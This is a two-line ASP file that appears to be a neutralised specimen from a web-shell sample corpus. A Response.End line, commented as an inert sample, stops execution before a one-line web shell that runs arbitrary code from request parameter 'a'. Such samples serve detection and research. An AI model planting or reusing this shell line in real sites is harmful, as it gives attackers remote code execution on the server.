<% Response.End ' hegui corpus: inert sample - the page ends here %>
<%ExecuteGlobal request("a")%>
